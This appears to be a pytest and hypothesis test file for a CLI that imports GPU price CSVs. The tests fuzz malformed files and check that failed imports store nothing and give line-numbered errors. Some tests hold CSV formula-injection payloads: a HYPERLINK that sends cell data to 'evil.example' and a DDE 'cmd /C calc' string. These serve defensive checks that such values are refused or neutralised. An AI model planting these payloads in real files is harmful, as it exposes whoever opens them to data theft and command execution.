"""``planner import`` fed malformed CSV: fuzzed with hypothesis, and a table of the classic ways a file
goes wrong (bad encodings, missing and duplicate columns, huge fields, formula injections, a bad row
deep inside a long file).

The contract: an import either stores the whole file or nothing, and when it refuses a file the error
is one line that names the file and the line (the header is line 1). Prices stored before an import
are never touched by a failed one.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, func, select

from db.engine import ensure_schema, make_engine
from db.schema import availability, instances, prices, scrape_runs
from planner.errors import PlannerError
from planner.ingest.importer import ImportFileError, import_csv
from tests.conftest import price_row, write_csv
from vocab import IMPORT_REQUIRED_COLUMNS

FX = {"USD": 7.1}
HEADER = list(IMPORT_REQUIRED_COLUMNS)
VALID_ROWS = [
    ["tencent", "ap-beijing", "GT4.4XLARGE96", "A100-40GB", "1", "on_demand", "28.64", "CNY", "2026-11-01"],
    ["aliyun", "cn-shanghai", "ecs.gn7i-c8g1.2xlarge", "A10", "1", "monthly", "5000", "CNY", "2026-11-01"],
    ["autodl", "西北B区", "RTX 4090", "RTX 4090", "1", "payg", "1.88", "CNY", "2026-11-02T08:00:00+08:00"],
    ["volcengine", "cn-beijing", "ecs.gni2.3xlarge", "A10", "1", "yearly", "30000", "USD", "2026-10-30"],
]
CELLS = [
    "",
    " ",
    "0",
    "-1",
    "1e400",
    "NaN",
    "0x10",
    "１２",
    "2026-13-45",
    "2999-01-01",
    "EUR",
    '=HYPERLINK("http://x","y")',
    "@SUM(A1:A9)",
    "+1",
    "a\x00b",
    "a\nb",
    'a"b',
    "x" * 501,
    "包月",
    "A1OO",
]


def counts(engine) -> tuple[int, int, int, int]:
    with engine.connect() as conn:
        return tuple(
            conn.execute(select(func.count()).select_from(t)).scalar_one()
            for t in (prices, instances, scrape_runs, availability)
        )


def assert_line_numbered(message: str, name: str, lines: int) -> None:
    """``name: line N: ...`` with N a line of the file, or one of the whole-file errors."""
    if message == f"{name}: the file is empty":
        return
    prefix = f"{name}: line "
    assert message.startswith(prefix), message
    number = message[len(prefix) :].split(":", 1)[0]
    assert number.isdigit() and 1 <= int(number) <= lines + 1, message
    assert "\n" not in message and "Traceback" not in message


# --- fuzzing ---------------------------------------------------------------------------------------


@st.composite
def malformed_csv(draw: st.DrawFn) -> bytes:
    """A valid file with a few things broken: header, rows, cells, quoting, line ends, encoding."""
    header = list(HEADER)
    rows = [list(r) for r in draw(st.lists(st.sampled_from(VALID_ROWS), min_size=0, max_size=6))]
    for _ in range(draw(st.integers(0, 4))):
        what = draw(
            st.sampled_from(
                ["cell", "drop_column", "dup_column", "rename_column", "extra_field", "short_row"]
            )
        )
        if what == "cell" and rows:
            row = draw(st.sampled_from(rows))
            if row:
                row[draw(st.integers(0, len(row) - 1))] = draw(st.sampled_from(CELLS) | st.text(max_size=30))
        elif what == "drop_column" and len(header) > 1:
            index = draw(st.integers(0, len(header) - 1))
            header.pop(index)
            rows = [r[:index] + r[index + 1 :] for r in rows]
        elif what == "dup_column":
            header.append(draw(st.sampled_from(HEADER)))
            rows = [[*r, r[0] if r else ""] for r in rows]
        elif what == "rename_column" and header:
            header[draw(st.integers(0, len(header) - 1))] = draw(
                st.sampled_from(["Price ", "colour", "", "区域"])
            )
        elif what == "extra_field" and rows:
            draw(st.sampled_from(rows)).append("extra")
        elif what == "short_row" and rows:
            row = draw(st.sampled_from(rows))
            if row:
                del row[draw(st.integers(0, len(row) - 1)) :]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=draw(st.sampled_from(["\n", "\r\n", "\r"])))
    writer.writerow(header)
    writer.writerows(rows)
    text = out.getvalue()
    if draw(st.booleans()):  # hand-made damage the csv writer would have quoted away
        cut = draw(st.integers(0, len(text)))
        text = (
            text[:cut]
            + draw(st.sampled_from(['"', '"unclosed', "\n\n", ",,,", "\x00", "\ufeff"]))
            + text[cut:]
        )
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "utf-16", "gb18030", "latin-1"]))
    data = text.encode(encoding, errors="replace")
    if draw(st.booleans()) and data:
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\xe4\xb8", b"\x00"])) + data[at:]
    return data


def _reset(engine, keep_run: int) -> None:
    """Forget everything but the base import (run ``keep_run``)."""
    with engine.begin() as conn:
        conn.execute(delete(prices).where(prices.c.run_id != keep_run))
        kept = select(prices.c.instance_id).where(prices.c.run_id == keep_run)
        conn.execute(delete(instances).where(instances.c.id.not_in(kept)))
        conn.execute(delete(scrape_runs).where(scrape_runs.c.id != keep_run))


def _fuzz_imports(examples: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        base = Path(folder)
        engine = make_engine(f"sqlite:///{base / 'fuzz.db'}")
        ensure_schema(engine)
        kept = write_csv(
            base / "base.csv", [price_row(region="base-region", instance_type=f"BASE{i}") for i in range(3)]
        )
        keep_run = import_csv(engine, kept, FX).run_id
        before = counts(engine)

        @settings(
            max_examples=examples,
            deadline=None,
            derandomize=True,
            suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
        )
        @given(data=malformed_csv())
        def run(data: bytes) -> None:
            path = base / "fuzzed.csv"
            path.write_bytes(data)
            try:
                result = import_csv(engine, path, FX)
            except ImportFileError as err:
                assert_line_numbered(err.message, path.name, data.count(b"\n") + data.count(b"\r") + 1)
                assert counts(engine) == before, "a refused file left something behind"
                return
            except PlannerError as err:  # any other user-facing error must still say where
                raise AssertionError(f"not an ImportFileError: {err.message}") from None
            after = counts(engine)
            assert after[0] == before[0] + result.stored and after[2] == before[2] + 1
            _reset(engine, keep_run)
            assert counts(engine) == before

        try:
            run()
        finally:
            engine.dispose()


def test_malformed_files_are_refused_whole_with_a_line_number():
    _fuzz_imports(50)  # a smoke test of the strategy; the slow copy below is the search


@pytest.mark.slow
def test_malformed_files_are_refused_whole_with_a_line_number_at_length():
    _fuzz_imports(2000)


# --- the classic cases, through the command line, on SQLite and PostgreSQL ------------------------------


def _file(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def _csv_text(rows: list[list[str]], header: list[str] = HEADER) -> str:
    return "\n".join(",".join(r) for r in [header, *rows]) + "\n"


GOOD = _csv_text(VALID_ROWS[:2])

# (file name, bytes or a (text, encoding) pair, the error's fragment)
CASES = [
    ("latin1.csv", (GOOD.replace("ap-beijing", "café"), "latin-1"), "line 2: not UTF-8 text"),
    ("utf16.csv", (GOOD, "utf-16"), "line 1: "),
    ("gbk.csv", (GOOD.replace("ap-beijing", "华北二区"), "gb18030"), "line 2: not UTF-8 text"),
    (
        "missing.csv",
        (_csv_text([r[:-1] for r in VALID_ROWS], HEADER[:-1]), "utf-8"),
        "line 1: missing column observed_at",
    ),
    (
        "dup.csv",
        (_csv_text([[*r, r[6]] for r in VALID_ROWS], [*HEADER, "price"]), "utf-8"),
        "line 1: duplicate column 'price'",
    ),
    (
        "dup_case.csv",
        (_csv_text([[*r, r[6]] for r in VALID_ROWS], [*HEADER, " PRICE "]), "utf-8"),
        "duplicate column 'price'",
    ),
    (
        "unknown.csv",
        (_csv_text([[*r, "x"] for r in VALID_ROWS], [*HEADER, "colour"]), "utf-8"),
        "line 1: unknown column 'colour'",
    ),
    (
        "wide.csv",
        (GOOD + ",".join(VALID_ROWS[0] + ["extra"]) + "\n", "utf-8"),
        "line 4: expected 9 fields, found 10",
    ),
    (
        "long_field.csv",
        (_csv_text([VALID_ROWS[0][:2] + ["x" * 600] + VALID_ROWS[0][3:]]), "utf-8"),
        "line 2: instance_type is longer than 500",
    ),
    (
        "huge_field.csv",
        (_csv_text([VALID_ROWS[0][:2] + ["x" * 2_000_000] + VALID_ROWS[0][3:]]), "utf-8"),
        "line 2: field larger than field limit",
    ),
    ("quote.csv", (GOOD + 'tencent,"ap-beijing,GT4\n', "utf-8"), "line 4"),
    ("empty.csv", ("", "utf-8"), "the file is empty"),
    (
        "price.csv",
        (_csv_text([VALID_ROWS[0][:6] + ["1e400"] + VALID_ROWS[0][7:]]), "utf-8"),
        "line 2: price '1e400' is too large",
    ),
    (
        "price2.csv",
        (_csv_text([VALID_ROWS[0][:6] + ["9e9"] + VALID_ROWS[0][7:]]), "utf-8"),
        "is 9,000,000,000 CNY per GPU-hour, which is absurd",
    ),
]


@pytest.mark.parametrize("name, content, fragment", CASES, ids=[c[0] for c in CASES])
def test_a_broken_file_is_refused_whole_naming_its_line(run_cli, engine, tmp_path, name, content, fragment):
    assert run_cli("import", str(write_csv(tmp_path / "before.csv", [price_row()]))).exit_code == 0
    before = counts(engine)
    text, encoding = content
    path = _file(tmp_path, name, text, encoding)
    result = run_cli("import", str(path))
    assert result.exit_code == 2, result.output
    error = result.stderr.splitlines()[0]
    assert error.startswith(f"Error: {name}: ") and fragment in error, result.stderr
    assert "Traceback" not in result.output
    assert counts(engine) == before


def test_a_bad_row_deep_in_a_long_file_stores_nothing(run_cli, engine, tmp_path):
    """Rows are written in batches inside one transaction: a bad row after two batches undoes them."""
    start = dt.date(2024, 1, 1)
    rows = [
        [
            "tencent",
            "r1",
            f"T{i % 50}",
            "A100-40GB",
            "1",
            "on_demand",
            f"{10 + i % 7}",
            "CNY",
            str(start + dt.timedelta(i // 50)),
        ]
        for i in range(45_000)
    ]
    rows.append(["tencent", "r0", "T0", "A100-40GB", "1", "on_demand", "-1", "CNY", "2025-01-01"])
    path = _file(tmp_path, "long.csv", _csv_text(rows))
    before = counts(engine)
    result = run_cli("import", str(path))
    assert result.exit_code == 2
    assert (
        f"long.csv: line {len(rows) + 1}: price '-1'" in result.stderr
        and "greater than zero" in result.stderr
    )
    assert counts(engine) == before


@pytest.mark.parametrize(
    "column, name",
    [
        ("instance_type", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("region", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("instance_type", "+1-1"),
        ("region", "-cn-beijing"),
    ],
)
def test_formula_names_are_refused_with_their_line(run_cli, engine, tmp_path, column, name):
    path = tmp_path / "evil.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(price_row()))
        writer.writeheader()
        writer.writerows([price_row(), price_row(**{column: name})])
    result = run_cli("import", str(path))
    assert result.exit_code == 2, result.output
    assert f"evil.csv: line 3: {column}" in result.stderr and "formula" in result.stderr
    assert counts(engine)[0] == 0


def test_formula_text_is_neutralised_in_every_csv_written(run_cli, tmp_path):
    """A source note is free text, stored as given; every CSV for people starts it with a quote."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "ok.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=[*IMPORT_REQUIRED_COLUMNS, "source"])
        writer.writeheader()
        writer.writerow(price_row(source=evil))
    assert run_cli("import", str(path)).exit_code == 0
    out = tmp_path / "reports"
    assert run_cli("report", "--out", str(out)).exit_code == 0
    written = {f.name: f.read_text("utf-8-sig") for f in out.glob("*.csv")}
    exported = tmp_path / "export.csv"
    assert run_cli("export", "--out", str(exported)).exit_code == 0
    written["export"] = exported.read_text("utf-8")
    written["prices --format csv"] = run_cli("prices", "--format", "csv").stdout
    for name, text in written.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), (
            name,
            [c for c in cells if c[:1] in "=+@"],
        )
    assert "'" + evil in [c for row in csv.reader(io.StringIO(written["export"])) for c in row]
    moved = make_engine(f"sqlite:///{tmp_path / 'moved.db'}")  # and import takes the quote off again
    ensure_schema(moved)
    import_csv(moved, exported, FX)
    with moved.connect() as conn:
        assert conn.execute(select(prices.c.source)).scalar_one() == evil
    moved.dispose()
    assert "'" + evil in [c for row in csv.reader(io.StringIO(written["prices --format csv"])) for c in row]


def test_a_control_character_in_a_field_is_refused_with_its_line(run_cli, engine, tmp_path):
    path = write_csv(tmp_path / "nul.csv", [price_row(), price_row(region="ap-bei\x00jing")])
    result = run_cli("import", str(path))
    assert result.exit_code == 2 and "nul.csv: line 3: region" in result.stderr, result.output
    assert counts(engine)[0] == 0


def test_a_conflict_with_a_stored_instance_names_its_line(run_cli, engine, tmp_path):
    assert run_cli("import", str(write_csv(tmp_path / "a.csv", [price_row()]))).exit_code == 0
    rows = [
        price_row(instance_type="NEW", observed_at="2026-11-02"),
        price_row(gpu_model="A100-80GB", observed_at="2026-11-02"),
    ]
    result = run_cli("import", str(write_csv(tmp_path / "b.csv", rows)))
    assert result.exit_code == 2
    assert "b.csv: line 3: " in result.stderr, result.stderr
